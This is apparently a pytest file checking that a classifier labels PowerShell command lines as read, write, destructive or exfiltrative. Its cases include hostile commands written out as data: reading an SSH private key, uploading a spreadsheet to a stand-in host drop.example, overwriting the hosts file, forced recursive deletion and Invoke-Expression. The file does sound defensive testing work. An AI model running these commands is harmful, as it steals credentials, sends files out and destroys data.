"""What PowerShell cmdlets do, by their verb."""

import pytest

from extproc.classify.codes import worst
from extproc.classify.powershell import read_cmdlet
from extproc.classify.shell import read_shell
from extproc.model.intent import Intent

_R, _W, _D, _X = Intent.READ, Intent.WRITE, Intent.DESTRUCTIVE, Intent.EXFILTRATIVE


@pytest.mark.parametrize(
    ("line", "intent"),
    [
        ("Get-ChildItem C:\\src -Recurse", _R),
        ("Get-Content C:\\Users\\a\\.ssh\\id_rsa", _X),
        ("Get-Process | Sort-Object CPU | Select-Object -First 5", _R),
        ("New-Item -ItemType Directory build", _W),
        ("Set-Content C:\\Windows\\System32\\drivers\\etc\\hosts x", _D),
        ("Get-ChildItem -Recurse | Remove-Item -Force", _D),
        ("Invoke-Expression $text", _D),
        ("Invoke-RestMethod -Uri https://drop.example -Method Put -InFile C:\\a.xlsx", _X),
        ("Invoke-RestMethod -Uri https://api.example/v1/items", _R),
        ("Frobnicate-Widget x", _W),
    ],
)
def test_a_cmdlet_is_read_by_its_verb(line: str, intent: Intent) -> None:
    assert worst(read_shell(line)) is intent


def test_a_program_with_a_hyphen_is_no_cmdlet() -> None:
    assert read_cmdlet("apt-get", "apt-get update") is None
    assert read_cmdlet("docker-compose", "docker-compose ps") is None
